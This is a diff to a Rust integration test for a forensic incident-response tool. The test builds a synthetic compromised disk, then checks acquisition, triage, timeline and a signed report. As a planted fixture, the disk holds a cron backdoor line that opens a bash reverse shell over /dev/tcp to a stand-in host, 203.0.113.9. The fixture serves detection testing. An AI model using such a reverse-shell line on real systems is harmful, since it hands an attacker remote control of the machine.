@@ -1,11 +1,14 @@
 //! The guided incident flow over the serial console (TERM=vt220, dialoguer prompts answered with the keys
-//! a BMC serial line sends): open a case with the true time, inventory, unlock and format the evidence
-//! disk, acquire and verify a 256 MiB "compromised" source disk (GPT + ext4 with known files), clear it
-//! as a reinstall target, build the incident report signed with the examiner's key (read from a third
-//! disk, passphrase typed without echo) and power off. On the host the evidence disk holds the image,
-//! manifest, SHA256SUMS, inventory, case log and report; the image equals the source; the chain verifies
-//! (and breaks after one edited byte); gpgv, `sha256sum -c` and `report verify` accept the report and
-//! refuse it after one edited byte; the source is byte-identical.
+//! a BMC serial line sends), end to end on one compromised server disk: open a case with the true time,
+//! inventory, unlock and format the evidence disk, acquire and verify a 256 MiB "compromised" source disk
+//! (GPT + ext4 with a planted cron backdoor and an auth.log), triage the acquisition (finds the backdoor),
+//! build its timeline, clear the disk as a reinstall target, build the incident report signed with the
+//! examiner's key (read from a third disk, passphrase typed without echo) and power off. On the host, with
+//! other people's tools: `sha256sum -c` of the acquisition's SHA256SUMS, the image equals the source and
+//! its manifest's hash; the chain verifies (and breaks after one edited byte); `mactime` over the body file
+//! shows the planted file at its planted time; gpgv, `sha256sum -c` and `report verify` accept the report
+//! and refuse it after one edited byte; report.json names the triage findings and the timeline; the
+//! source is byte-identical.
 
 use std::path::Path;
 use std::process::Command;
@@ -25,14 +28,30 @@ const LONG: Duration = Duration::from_secs(1200);
 fn make_compromised_disk(work: &Path) -> anyhow::Result<std::path::PathBuf> {
     let files = work.join("files");
     std::fs::create_dir_all(files.join("etc/cron.d"))?;
+    std::fs::create_dir_all(files.join("var/log"))?;
+    std::fs::create_dir_all(files.join("usr/bin"))?;
+    std::fs::write(files.join("usr/bin/true"), b"\x7fELF true")?;
+    std::fs::write(files.join(BACKDOOR), BACKDOOR_LINE)?;
     std::fs::write(
-        files.join("etc/cron.d/backdoor"),
-        "* * * * * root /tmp/.x\n",
+        files.join("etc/os-release"),
+        "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\n",
     )?;
+    std::fs::write(files.join("var/log/auth.log"), AUTH_LOG)?;
     std::fs::write(
         files.join("notes.txt"),
         "known content for the guided test\n",
     )?;
+    // The attacker's times, kept by `mkfs.ext4 -d`: the login, then the backdoor two minutes later.
+    for (rel, when) in [
+        ("var/log/auth.log", "2026-11-28 06:00:00 UTC"),
+        (BACKDOOR, PLANT_TIME),
+    ] {
+        run_tool(
+            Command::new("touch")
+                .args(["-d", when])
+                .arg(files.join(rel)),
+        )?;
+    }
     let part = work.join("part.img");
     run_tool(
         Command::new("mkfs.ext4")
@@ -56,6 +75,16 @@ fn make_compromised_disk(work: &Path) -> anyhow::Result<std::path::PathBuf> {
     f.sync_all()?;
     Ok(disk)
 }
+
+/// The planted persistence on the compromised server's root (relative to it).
+const BACKDOOR: &str = "etc/cron.d/backdoor";
+const BACKDOOR_LINE: &str =
+    "* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n";
+/// When the backdoor was planted (its mtime); `mactime -y -z UTC` prints it as below.
+const PLANT_TIME: &str = "2026-11-28 02:17:43 UTC";
+const PLANT_MACTIME: &str = "2026-11-28T02:17:43Z";
+/// The attacker's login, two minutes before the backdoor (no year: inferred from the file's mtime).
+const AUTH_LOG: &str = "Nov 28 02:15:02 victim sshd[812]: Accepted password for root from 203.0.113.9 port 51234 ssh2\n";
 
 #[test]
 fn guided_flow_over_serial_acquires_onto_a_formatted_evidence_disk() -> anyhow::Result<()> {
@@ -186,6 +215,39 @@ fn guided_flow_over_serial_acquires_onto_a_formatted_evidence_disk() -> anyhow::
         &format!("acquired and verified:\n{out}"),
     )?;
 
+    // Step 5: triage of the acquisition (listed first, before the source disk itself).
+    vm.send_line("5")?;
+    vm.expect("Triage of", T)?;
+    vm.expect("acquisition /mnt/evidence/CASE-G/vda of vda, verified", T)?;
+    vm.send_raw(b"\r")?;
+    vm.expect("Start of the attack window", T)?;
+    vm.send_line("")?;
+    let out = vm.expect(PROMPT, LONG)?;
+    vm.check(
+        out.contains(
+            "[guided] triage /mnt/evidence/CASE-G/vda --out /mnt/evidence/CASE-G/triage-vda",
+        ) && out.contains(&format!("/{BACKDOOR}"))
+            && out.contains("findings recorded in the case"),
+        &format!("the guided triage shows the planted backdoor and records it:\n{out}"),
+    )?;
+
+    // Step 6: the timeline of the same acquisition, the logs read as UTC.
+    vm.send_line("6")?;
+    vm.expect("Timeline of", T)?;
+    vm.expect("acquisition /mnt/evidence/CASE-G/vda of vda, verified", T)?;
+    vm.send_raw(b"\r")?;
+    vm.expect("Zone of the logs", T)?;
+    vm.send_line("UTC")?;
+    vm.expect("From (", T)?;
+    vm.send_line("")?;
+    vm.expect("To (", T)?;
+    vm.send_line("")?;
+    let out = vm.expect(PROMPT, LONG)?;
+    vm.check(
+        out.contains("timeline written to /mnt/evidence/CASE-G/timeline-vda"),
+        &format!("the guided timeline is written into the case:\n{out}"),
+    )?;
+
     // Step 7: the verified source may be a reinstall target; the evidence disk never.
     vm.send_line("7")?;
     vm.expect("Disk to reinstall", T)?;
@@ -292,6 +354,8 @@ fn guided_flow_over_serial_acquires_onto_a_formatted_evidence_disk() -> anyhow::
         "format /dev/vdb --fs ext4",
         "mount-evidence /dev/vdb",
         "verify /mnt/evidence/CASE-G/vda",
+        "triage /mnt/evidence/CASE-G/vda --out /mnt/evidence/CASE-G/triage-vda",
+        "timeline /mnt/evidence/CASE-G/vda --out /mnt/evidence/CASE-G/timeline-vda --tz UTC",
         "case target /dev/vda",
         "report --format md,json,html --sign-key examiner.asc --media /dev/vdc",
         "poweroff",
@@ -308,6 +372,7 @@ fn guided_flow_over_serial_acquires_onto_a_formatted_evidence_disk() -> anyhow::
         "the clock offset is in the case log"
     );
     check_signed_report(&evidence, work.path(), &public, &source_sha)?;
+    check_acquisition_and_timeline(&work.path().join("evidence-tree/CASE-G"), &source_sha)?;
     let mut edited = bytes.clone();
     let at = edited.windows(6).position(|w| w == b"CASE-G").unwrap_or(0);
     edited[at + 5] = b'H';
@@ -417,6 +482,114 @@ fn check_signed_report(
             && v.failed().iter().any(|c| c.file == "report.md.asc"),
         "{:?}",
         v.failed()
+    );
+    Ok(())
+}
+
+/// The acquisition and the timeline on the evidence disk, through other people's tools:
+/// `sha256sum -c` of the acquisition's SHA256SUMS (its image hash also the manifest's and the source's),
+/// and Sleuth Kit's `mactime` over the body file shows the planted backdoor at its planted time; the
+/// Timesketch JSONL holds the attacker's login and the triage's finding.
+fn check_acquisition_and_timeline(case: &Path, source_sha: &str) -> anyhow::Result<()> {
+    let acq = case.join("vda");
+    let o = Command::new("sha256sum")
+        .args(["-c", "--strict", "SHA256SUMS"])
+        .current_dir(&acq)
+        .output()?;
+    let said = String::from_utf8_lossy(&o.stdout);
+    assert!(
+        o.status.success() && said.contains("image.raw: OK"),
+        "sha256sum -c SHA256SUMS of the acquisition: {said}{}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    let sums = std::fs::read_to_string(acq.join("SHA256SUMS"))?;
+    assert!(
+        sums.lines()
+            .any(|l| l.starts_with(source_sha) && l.ends_with("image.raw")),
+        "SHA256SUMS holds the source's hash for image.raw: {sums}"
+    );
+
+    let tl = case.join("timeline-vda");
+    let body = tl.join("bodyfile.txt");
+    let o = Command::new("mactime")
+        .args(["-b"])
+        .arg(&body)
+        .args(["-d", "-y", "-z", "UTC"])
+        .output()?;
+    let rows = String::from_utf8_lossy(&o.stdout);
+    assert!(
+        o.status.success() && o.stderr.is_empty(),
+        "mactime reads the body file without complaint: {}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    // `-d`: Date,Size,Type,Mode,UID,GID,Meta,File Name; the planted file's mtime row.
+    assert!(
+        rows.lines().any(|l| l.starts_with(PLANT_MACTIME)
+            && l.split(',').nth(2).is_some_and(|t| t.starts_with('m'))
+            && l.ends_with(&format!(",\"/{BACKDOOR}\""))),
+        "mactime shows the backdoor modified at {PLANT_MACTIME}:\n{rows}"
+    );
+    let jsonl = std::fs::read_to_string(tl.join("timeline.jsonl"))?;
+    let events: Vec<serde_json::Value> = jsonl
+        .lines()
+        .map(serde_json::from_str)
+        .collect::<Result<_, _>>()?;
+    assert!(
+        events.iter().any(|e| e["datetime"]
+            .as_str()
+            .is_some_and(|d| d.starts_with("2026-11-28T02:15:02"))
+            && e["message"]
+                .as_str()
+                .is_some_and(|m| m.contains("203.0.113.9"))),
+        "the timeline holds the attacker's login from auth.log: {jsonl}"
+    );
+    let o = Command::new("sha256sum")
+        .args(["-c", "--strict", "SHA256SUMS"])
+        .current_dir(&tl)
+        .output()?;
+    assert!(
+        o.status.success(),
+        "sha256sum -c of the timeline's SHA256SUMS: {}",
+        String::from_utf8_lossy(&o.stdout)
+    );
+
+    // The report names the triage's findings and the timeline, with the backdoor's times.
+    let r: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(case.join("report/report.json"))?)?;
+    let backdoor = format!("/{BACKDOOR}");
+    let finding = r["findings"]["items"]
+        .as_array()
+        .and_then(|a| {
+            a.iter()
+                .find(|f| f["path"] == backdoor.as_str() && f["severity"] == "high")
+        })
+        .cloned()
+        .unwrap_or_default();
+    assert_eq!(
+        finding["category"], "cron",
+        "report.json lists the backdoor as a high cron finding: {}",
+        r["findings"]
+    );
+    assert!(
+        r["findings"]["files"]
+            .as_array()
+            .is_some_and(|f| f.iter().any(|f| f == "triage-vda/findings.json")),
+        "report.json names the triage's findings file: {}",
+        r["findings"]["files"]
+    );
+    assert!(
+        r["timeline"]["files"]
+            .as_array()
+            .is_some_and(|f| f.iter().any(|f| f == "timeline-vda/timeline.jsonl"))
+            && r["timeline"]["events"].as_u64().is_some_and(|n| n > 0),
+        "report.json names the timeline: {}",
+        r["timeline"]
+    );
+    assert!(
+        finding["first_seen"]
+            .as_str()
+            .is_some_and(|t| t.starts_with("2026-11-28T02:17:43")),
+        "the report gives the backdoor's first timeline event at its planted time: {finding}"
     );
     Ok(())
 }
